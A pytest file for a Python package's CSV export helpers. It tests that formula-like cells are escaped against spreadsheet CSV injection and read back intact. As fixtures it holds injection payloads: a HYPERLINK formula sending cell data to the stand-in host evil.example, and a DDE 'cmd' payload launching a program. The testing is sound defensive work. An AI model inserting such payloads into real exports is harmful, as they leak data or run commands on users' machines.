"""CSV tables a spreadsheet opens safely: a text cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is written with a single quote in front (OWASP, "CSV injection"),
numbers stay numbers, and every CSV writer of the package and the workflow goes through
:mod:`genmetrics.io`."""

from __future__ import annotations

import csv
import io
import json
import re
import runpy
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from genmetrics.io import csv_text, escape_cell, read_csv, unescape_cell, write_csv

REPO = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CMD = "+cmd|'/C,calc'!A0"  # one word (n-grams are of whitespace words)


def _raw_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


class _Files(list):
    """A Snakemake input/output object: a list with named items and ``keys()``."""

    def __init__(self, **named: object) -> None:
        super().__init__(named.values())
        self.__dict__.update(named)

    def keys(self) -> list[str]:
        return [k for k in self.__dict__ if not k.startswith("_")]


def test_patterns_table_escapes_formula_ngrams(tmp_path):
    """The workflow's repeated-patterns job (its script, as Snakemake runs it): an n-gram that a
    spreadsheet would run as a formula is written with a quote in front; counts stay numbers,
    a word that is a plain number stays as it is, and read_csv gives the n-gram back."""
    texts = [
        f"{HYPERLINK} now -0.5 here",
        f"{HYPERLINK} now -0.5 there",
        f"{CMD} @SUM(A1) -1+1 run",
        f"{CMD} @SUM(A1) -1+1 run",
    ]
    path = tmp_path / "texts.jsonl"
    path.write_text(
        "".join(json.dumps({"id": f"t{i}", "text": t}) + "\n" for i, t in enumerate(texts))
    )
    table = tmp_path / "patterns" / "toy.csv"
    sm = SimpleNamespace(
        wildcards=SimpleNamespace(dataset="toy"),
        params=SimpleNamespace(
            settings={
                "sources": ["references"],
                "options": {"n": [1, 2], "pos_n": [], "top": 20, "sentences": False},
            }
        ),
        input=_Files(texts=[str(path)]),
        output=_Files(table=str(table), markdown=str(tmp_path / "patterns" / "toy.md")),
        log=[str(tmp_path / "log.txt")],
    )
    runpy.run_path(str(REPO / "workflow/scripts/repeated_patterns.py"), {"snakemake": sm})

    rows = _raw_rows(table)
    header, body = rows[0], rows[1:]
    cells = {(r[header.index("n")], r[header.index("pattern")]): r for r in body}
    assert ("1", "'" + HYPERLINK) in cells
    assert ("2", f"'{HYPERLINK} now") in cells
    assert ("1", "'" + CMD) in cells and ("1", "'@SUM(A1)") in cells and ("1", "'-1+1") in cells
    assert ("1", "-0.5") in cells  # a plain number is no formula
    assert cells[("1", "'" + HYPERLINK)][header.index("count")] == "2"
    # no cell of the file starts a formula
    assert not [c for r in body for c in r if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for r in body for c in r if c.startswith("-") and c != "-0.5"]

    back = read_csv(table)
    assert set(back["pattern"]) >= {HYPERLINK, f"{HYPERLINK} now", CMD, "@SUM(A1)", "-1+1"}
    assert back["count"].dtype.kind == "i"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1", "''=1"),  # a quote already there: one more, so that reading gives it back
        ("'x", "'x"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-inf", "'-inf"),  # a string, not a number
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_escape_cell_and_back(cell, written):
    assert escape_cell(cell) == written
    assert unescape_cell(written) == cell


def test_numbers_stay_numbers_and_every_string_cell_round_trips(tmp_path):
    """Numeric columns are written as numbers (-0.5, -inf); string cells, column labels and
    index labels are escaped; read_csv gives every one back, a carriage return included."""
    strings = ["=1", "-x", "ok", "'=y", "a\rb", "\rz", None]
    df = pd.DataFrame(
        {
            "=label": strings,
            "value": [-0.5, -np.inf, 1.0, 2.0, 3.0, 4.0, np.nan],
            "count": pd.array([-1, None, 3, 4, 5, 6, 7], dtype="Int64"),
        }
    )
    text = csv_text(df)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'=label", "value", "count"]
    assert [r[0] for r in rows[1:]] == ["'=1", "'-x", "ok", "''=y", "a\rb", "'\rz", ""]
    assert [r[1] for r in rows[1:3]] == ["-0.5", "-inf"] and rows[1][2] == "-1"
    path = tmp_path / "t.csv"
    write_csv(path, df)
    assert path.read_bytes().decode("utf-8") == text
    back = read_csv(path)
    assert list(back.columns) == list(df.columns) and len(back) == len(df)
    assert back["=label"].tolist()[:-1] == strings[:-1] and pd.isna(back["=label"].iloc[-1])
    assert back["value"].tolist()[:2] == [-0.5, -np.inf]

    wide = pd.DataFrame([[1, 2]], columns=["=x", "y"], index=pd.Index(["-a"], name="@n"))
    assert csv_text(wide, index=True).splitlines() == ["'@n,'=x,y", "'-a,1,2"]
    back = read_csv(io.StringIO(csv_text(wide, index=True)), index_col=0)
    assert back.index.tolist() == ["-a"] and back.index.name == "@n"
    assert back.columns.tolist() == ["=x", "y"]


def test_annotation_csv_escapes_the_text_and_reads_back(tmp_path):
    """The OmniInput annotation CSV (written row by row): a decoded text that is a formula is
    escaped; the bin edges and z stay numbers, and the scores read back."""
    from genmetrics.omniinput.annotation_csv import export_samples, read_annotations
    from genmetrics.omniinput.density import Bins

    bins = Bins(-1.0, 1.0, 2)
    samples = [np.array([[1, 2]], np.int64), np.array([[3, 4]], np.int64)]
    path = tmp_path / "rate.csv"
    texts = {1: "=1+1", 3: "-plain"}
    export_samples(
        path,
        samples,
        bins,
        z=[np.array([-0.5]), np.array([0.5])],
        decode=lambda t: texts[int(t[0])],
        scores=[np.array([1.0]), np.array([0.0])],
    )
    rows = _raw_rows(path)
    assert [r[6] for r in rows[1:]] == ["'=1+1", "'-plain"]
    assert rows[1][1:5] == ["-1.0", "0.0", "0", "-0.5"]
    back = read_annotations(path, bins)
    np.testing.assert_array_equal(back.r, [1.0, 0.0])


#: what writes a CSV file: pandas' ``to_csv`` and the csv module's writers
_WRITER = re.compile(r"\.to_csv\(|\bcsv\.(writer|DictWriter)\(|from csv import|import csv as")


def test_every_csv_writer_goes_through_genmetrics_io():
    """No module of the package, workflow script or rule writes a CSV itself: each one calls
    genmetrics.io.write_csv / csv_text / csv_writer, which escape the cells."""
    files = [
        *sorted((REPO / "src" / "genmetrics").rglob("*.py")),
        *sorted((REPO / "workflow" / "scripts").glob("*.py")),
        *sorted((REPO / "rules").glob("*.smk")),
        REPO / "Snakefile",
    ]
    helper = REPO / "src" / "genmetrics" / "io.py"
    assert helper in files and len(files) > 50
    assert _WRITER.search(helper.read_text(encoding="utf-8"))  # the pattern finds writers
    offenders = [
        f"{path.relative_to(REPO)}:{i}: {line.strip()}"
        for path in files
        if path != helper
        for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if _WRITER.search(line)
    ]
    assert offenders == []


def test_agreement_scores_read_back_as_written(tmp_path):
    """The agreement study reads its own scores table back and pairs its items with the
    judgments: an escaped item or system comes back as it was (a guard: escaping must not
    change what is joined)."""
    from genmetrics.agreement.jobs import read_scores
    from genmetrics.agreement.jobs import write_csv as agreement_csv

    df = pd.DataFrame(
        {"item": ["0001", "=x", "-2"], "system": ["-s", "@b", "c"], "v": [1.0, -2, 3]}
    )
    path = tmp_path / "scores.csv"
    agreement_csv(path, df)
    assert [r[0] for r in _raw_rows(path)[1:]] == ["0001", "'=x", "-2"]
    back = read_scores(path)
    assert back["item"].tolist() == ["0001", "=x", "-2"]
    assert back["system"].tolist() == ["-s", "@b", "c"] and back["v"].tolist() == [1.0, -2.0, 3.0]
